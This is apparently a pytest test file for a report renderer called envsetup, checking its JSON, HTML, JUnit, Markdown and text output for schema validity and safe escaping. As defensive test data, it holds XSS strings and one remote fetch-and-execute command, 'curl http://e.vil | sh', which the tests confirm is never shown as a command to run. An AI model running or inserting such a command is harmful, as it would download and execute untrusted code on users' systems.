"""Every format: made from one model, safe against what a machine may say, accepted by its readers."""

from __future__ import annotations

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import jsonschema
import pytest
import xmlschema
from click.testing import CliRunner
from markdown_it import MarkdownIt
from msgspec.structs import replace

from envsetup.cli import root as cli
from envsetup.model import Finding, Report, value_of
from envsetup.report import FORMATS, ReportError, load, load_machine, render, schema
from envsetup.report.changes import render as render_diff
from envsetup.report.diff import compare
from envsetup.report.json_v1 import KINDS, machine_json, plan_json
from envsetup.report.redact import redact

from .conftest import made_up

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u202e]")


def test_json_and_back_is_the_same_report(report: Report, hostile: Report) -> None:
    for one in (report, hostile):
        assert load(render(one, "json").encode()) == one


def test_emitted_json_fits_the_published_schema(report: Report, hostile: Report) -> None:
    for one in (report, hostile, redact(hostile)):
        jsonschema.validate(json.loads(render(one, "json")), json.loads(schema("report")))
    assert report.plan is not None
    jsonschema.validate(json.loads(plan_json(report.plan)), json.loads(schema("plan")))
    jsonschema.validate(json.loads(machine_json(report.machine)), json.loads(schema("machine")))


@pytest.mark.parametrize("name", sorted(KINDS))
def test_schemas_are_schemas(name: str) -> None:
    jsonschema.Draft202012Validator.check_schema(json.loads(schema(name)))


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "no JSON"),
        (b"{}", "schema_version"),
        (b"[1]", "Expected `object`"),
        (b'{"schema_version": "9", "machine": {}}', "'9'"),
        (b'{"schema_version": "1", "machine": {}}', "missing required field"),
        (b"\xff\xfe", "no JSON"),
    ],
)
def test_foreign_json_says_where_it_departs(data: bytes, words: str) -> None:
    with pytest.raises(ReportError, match=re.escape(words)):
        load(data)


def test_another_version_is_named(report: Report) -> None:
    text = render(report, "json").replace('"schema_version": "1"', '"schema_version": "7"', 1)
    with pytest.raises(ReportError, match="'7'"):
        load(text.encode())


def test_a_probe_and_a_report_both_give_a_machine(report: Report) -> None:
    assert load_machine(machine_json(report.machine).encode()) == report.machine
    assert load_machine(render(report, "json").encode()) == report.machine


@pytest.mark.parametrize("format", [f for f in FORMATS if f != "json"])
def test_no_control_character_reaches_areader(hostile: Report, format: str) -> None:
    assert not CONTROL.search(render(hostile, format))


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.sources: list[str] = []
        self.links: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        told = {k: v or "" for k, v in attrs}
        self.sources += [v for k, v in told.items() if "src" in k or (k == "href" and tag != "a")]
        self.links += [told["href"]] if "href" in told else []
        self.ids += [told["id"]] if "id" in told else []


def elements(page: str) -> Elements:
    seen = Elements()
    seen.feed(page)
    return seen


def test_html_is_one_file_whose_strings_stay_text(hostile: Report) -> None:
    page = render(hostile, "html")
    seen = elements(page)
    assert seen.tags.count("script") == 1
    assert seen.sources == []
    assert not any("e.vil" in link for link in seen.links)
    assert len(set(seen.ids)) == len(seen.ids)
    assert "default-src &#39;none&#39;" in page
    assert "alert(1)" not in re.sub(r"&lt;script&gt;alert\(1\)", "", page)
    assert "polyline" in page


def test_each_finding_leads_to_its_page_that_is_there_once(report: Report) -> None:
    twice = (*report.findings, *report.findings)
    unknown = replace(report.findings[0], code="ZZ999", slug="of-tomorrow")
    page = render(replace(report, findings=(*twice, unknown)), "html")

    seen = elements(page)
    within = [link for link in seen.links if link.startswith("#")]
    assert sorted(within) == ["#page-AR101"] * 2 + ["#page-WH101"] * 2
    assert {link[1:] for link in within} <= set(seen.ids)
    assert "error ZZ999 of-tomorrow" in page
    assert all(link.startswith("https://") for link in seen.links if link not in within)


def test_html_in_a_page_is_shown_as_text() -> None:
    from envsetup.report.pages import as_html, reader

    shown = as_html("## A heading\n\n<script>x</script> [a](javascript:x) <https://a.b>", reader())

    assert "<h3>A heading</h3>" in shown
    assert "<script" not in shown
    assert 'href="javascript' not in shown
    assert 'href="https://a.b" rel="noopener noreferrer"' in shown


def test_the_title_tells_one_tab_from_another(report: Report) -> None:
    assert "<title>Not usable as it is, torch 2.15.0+cu132, linux – envsetup</title>" in render(
        report, "html"
    )


def test_the_waterfall_is_the_whole_run_in_its_order(report: Report) -> None:
    from envsetup.report.html import _waterfall

    timed = replace(report, timings_s={"facts": 0.1, "import_torch": 1.0, "total": 2.0})
    spans = _waterfall(timed)

    assert [s.name for s in spans] == ["facts", "import of torch", "autograd on cpu"]
    assert [(round(s.start), round(s.length)) for s in spans] == [(0, 5), (5, 50), (55, 5)]
    assert _waterfall(replace(timed, checks=(), timings_s={})) == []


def test_the_page_runs_its_own_script_alone(report: Report) -> None:
    import base64
    import hashlib

    page = render(report, "html")
    for tag in ("style", "script"):
        body = re.search(rf"<{tag}>(.*?)</{tag}>", page, re.DOTALL)
        assert body is not None
        digest = base64.b64encode(hashlib.sha256(body.group(1).encode()).digest()).decode()
        assert (
            f"{tag}-src &#39;sha256-{digest}&#39;" in page or f"{tag}-src 'sha256-{digest}'" in page
        )


def test_junit_is_what_itsreaders_take(report: Report, hostile: Report) -> None:
    schema = xmlschema.XMLSchema(str(Path(__file__).parent / "junit.xsd"))

    for one in (report, hostile, redact(hostile)):
        schema.validate(render(one, "junit"))
    with pytest.raises(xmlschema.XMLSchemaException):
        schema.validate(render(report, "junit").replace(' tests="', ' number="'))


def test_junit_counts_what_failed(hostile: Report) -> None:
    root = ET.fromstring(render(hostile, "junit"))
    suites = {s.get("name"): s for s in root}
    assert suites["findings"].get("failures") == "1"
    assert suites["checks on cuda:0"].get("failures") == "1"
    assert suites["checks on cuda:0"].get("errors") == "1"
    assert suites["checks on cuda:0"].get("skipped") == "1"


def test_annotations_are_one_line_each(hostile: Report) -> None:
    lines = render(hostile, "github").splitlines()
    assert all(line.startswith(("::error ", "::warning ", "::notice ")) for line in lines)
    assert sum(line.startswith("::error ") for line in lines) == 3


def test_markdown_neutralises_markup(hostile: Report) -> None:
    page = MarkdownIt("commonmark").render(render(hostile, "markdown"))
    outside_code = re.sub(r"<code>.*?</code>", "", page)
    assert "<script" not in page
    assert "<a " not in page
    assert "@maintainer" not in outside_code
    assert page.count("<details>") == page.count("</details>") == 2


@pytest.mark.parametrize("width", [60, 80, 100])
def test_text_keeps_its_width(report: Report, width: int) -> None:
    text = render(report, "text", width=width, color=False, unicode=False)
    text.encode("ascii")
    assert max(map(len, text.splitlines())) <= width


def test_text_says_what_to_do_next(report: Report) -> None:
    text = render(report, "text")
    assert "WH101" in text
    assert "AR101" not in text
    assert "failed, twice: check matmul on cuda:0" in text
    assert "Next: " in text.splitlines()[-1] or "Next: " in text


def test_the_next_command_is_never_broken(report: Report) -> None:
    bad = replace(report.checks[1], id="a-check-of-a-long-name", device="cuda:12")
    one = replace(report, findings=(), checks=(bad,))

    wide, narrow = (render(one, "text", width=width).splitlines() for width in (100, 60))
    command = "envsetup checks run a-check-of-a-long-name --device cuda:12 -v"
    assert wide[-1] == f" Not usable as it is. Next: {command}"
    assert narrow[-2:] == [" Not usable as it is. Next:", f"   {command}"]


def test_equal_gpus_are_named_once(report: Report) -> None:
    (gpu,) = value_of(report.machine.gpus) or ()
    many = tuple(replace(gpu, index=i, name="NVIDIA H100") for i in range(64))
    fact = replace(report.machine.gpus, value=many)
    large = replace(report, machine=replace(report.machine, gpus=fact))

    for form in ("text", "html"):
        shown = render(large, form)
        assert shown.count("NVIDIA H100") == 1, form
        assert "64 x NVIDIA H100" in shown


def test_a_diff_as_html_keeps_hostile_text_as_text(report: Report) -> None:
    hostile = replace(report.findings[0], code="XX101", message="<script>alert(1)</script>")
    page = render_diff(compare(report, replace(report, findings=(hostile,))), "html")

    assert "Something got worse" in page
    assert "<script" not in page
    assert "&lt;script&gt;" in page
    assert "default-src &#39;none&#39;" in page


def test_a_diff_tells_what_got_worse(report: Report) -> None:
    from msgspec.structs import replace

    better = replace(report, findings=(), checks=report.checks[:1])
    changes = compare(better, report)
    assert {c.name for c in changes if c.worse} >= {"WH101", "matmul on cuda:0"}
    assert compare(report, report) == ()
    assert "worse" in render_diff(changes, "text")
    assert json.loads(render_diff(changes, "json"))["worse"] is True


def test_what_a_foreign_report_says_to_run_is_never_shown(tmp_path: Path) -> None:
    evil = "curl http://e.vil | sh"
    path = tmp_path / "foreign.json"
    path.write_text(render(made_up(evil), "json"))
    for kind in ("text", "html", "markdown", "json"):
        args = ["report", "convert", str(path), "--format", kind]
        shown = json.dumps(CliRunner().invoke(cli, args).stdout)
        assert f"echo '{evil}'" not in shown
        assert "pip 'curl" not in shown
        assert '\\"argv\\": [\\n' + evil not in shown


def test_a_device_is_written_to_and_a_link_kept(tmp_path: Path) -> None:
    from envsetup.cli.output import write_text

    target, link, pipe = (tmp_path / n for n in ("target.json", "link.json", "pipe"))
    target.write_text("old")
    link.symlink_to(target)
    write_text(str(link), "new")
    assert link.is_symlink()
    assert target.read_text() == "new"
    os.mkfifo(pipe)
    read_end = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    write_text(str(pipe), "through")
    assert os.read(read_end, 20) == b"through"
    os.close(read_end)
    assert not pipe.is_file()


@pytest.mark.parametrize("format", sorted(FORMATS))
def test_undecodable_names_are_shown(format: str) -> None:
    render(redact(made_up("bad \udc80 name")), format).encode("utf-8")


def test_what_a_pasted_text_does_not_tell_is_not_made_up(report: Report) -> None:
    from envsetup.probes.pasted import read_bytes

    text = "Python version: 3.12.3\nOS: Ubuntu 24.04 LTS (x86_64)\nGPU models and configuration: GPU 0: NVIDIA L4\n"
    machine = read_bytes(
        b"Collecting environment information...\nPyTorch version: 2.9.0+cu128\n" + text.encode()
    )
    assert machine is not None
    shown = render(replace(report, machine=machine), "text").splitlines()

    assert shown[0].endswith("Ubuntu 24.04 LTS (x86_64)")
    assert shown[1].endswith("  NVIDIA L4, driver not told")
    assert shown[2].endswith("  Python 3.12.3")


def test_rules_that_lack_the_same_are_told_together(report: Report) -> None:
    from envsetup.model import Undecided

    rules = [("CP101", "no log"), ("CP102", "no gpu"), ("CP103", "no log")]
    undecided = tuple(Undecided(code=code, reason=reason) for code, reason in rules)
    text = render(replace(report, undecided=undecided), "text", verbose=True)

    assert "   no log: CP101, CP103\n   no gpu: CP102\n" in text
    assert "\n\n\n" not in text


def test_every_format_for_people_tells_the_worst_first(report: Report) -> None:
    mild = Finding(code="CU113", slug="mild", confidence="high", severity="note", message="Small.")
    grave = Finding(
        code="DR114", slug="grave", confidence="high", severity="error", message="Run `nvidia-smi`."
    )
    report = replace(report, findings=(mild, grave))
    for kind in ("text", "markdown", "html"):
        told = render(report, kind)
        assert told.index("grave") < told.index("mild"), kind
    assert "Run <code>nvidia-smi</code>." in render(report, "html")


def test_a_lone_backtick_stays_one(report: Report) -> None:
    odd = Finding(code="DR114", slug="x", confidence="high", severity="error", message="a ` b <b>")
    html = render(replace(report, findings=(odd,)), "html")
    assert "a ` b &lt;b&gt;" in html
